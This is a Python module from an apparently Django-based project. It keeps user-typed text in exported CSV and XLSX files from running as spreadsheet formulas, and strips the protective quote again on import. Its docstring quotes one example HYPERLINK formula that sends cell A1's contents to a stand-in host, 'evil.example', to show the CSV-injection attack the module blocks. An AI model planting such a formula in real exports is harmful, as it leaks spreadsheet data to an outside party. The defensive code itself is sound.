"""Cells of the CSV and XLSX files we write, made inert: text a user typed never becomes a formula.

A unit head's explanation `=HYPERLINK("http://evil.example/?leak="&A1, "x")` must reach leadership's
spreadsheet as the text it is, not as a live formula (CSV injection, OWASP). Every exporter writes
its cells through this module:

- CSV: a text cell starting with = + - @, a tab or a carriage return gets the usual protective
  single quote in front (`'=1+41`); numbers are not text and are written as they are (-1,5 stays a
  number). The importers take the quote off again (`unquote`), so an exported file reads back as
  it was written.
- XLSX: a text cell is always a text cell (openpyxl would otherwise store a string starting with
  `=` as a formula and `#N/A` as an error), and one starting with a formula character is marked
  with Excel's own quote prefix so that it stays text when someone edits it.
"""

from __future__ import annotations

from django.utils.functional import Promise
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE, Cell

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
QUOTE = "'"


def csv_cell(value):
    """The value to hand to csv.writer: text that a spreadsheet would run as a formula is
    quoted; anything else (numbers, None, plain text) is returned unchanged."""
    if isinstance(value, Promise):  # a translated label (a state, a kind): text in this language
        value = str(value)
    if isinstance(value, str) and value.startswith(FORMULA_START):
        return QUOTE + value
    return value


def csv_row(values) -> list:
    return [csv_cell(v) for v in values]


def xlsx_cell(ws, value):
    """The value to hand to ws.append (normal or write-only worksheet): a text becomes a cell whose
    type is text whatever it starts with; other values are returned unchanged."""
    if isinstance(value, Promise):  # a translated label (a state, a kind): text in this language
        value = str(value)
    if not isinstance(value, str):
        return value
    return text_cell(ws, value)


def text_cell(ws, value: str) -> Cell:
    """A cell holding `value` as text, never as a formula or an error value."""
    text = ILLEGAL_CHARACTERS_RE.sub("", value)
    cell = Cell(ws, row=1, column=1, value=text)  # placed by ws.append
    cell.data_type = "s"
    if text.startswith(FORMULA_START):
        cell.quotePrefix = True
    return cell


def xlsx_row(ws, values) -> list:
    return [xlsx_cell(ws, v) for v in values]


def unquote(value):
    """A cell read from an imported file, with the protective quote of `csv_cell` taken off: only
    a text starting with the quote followed by a formula character, which is what we write."""
    if value.__class__ is str and value[:1] == QUOTE and value[1:2] and value[1] in FORMULA_START:
        return value[1:]
    return value
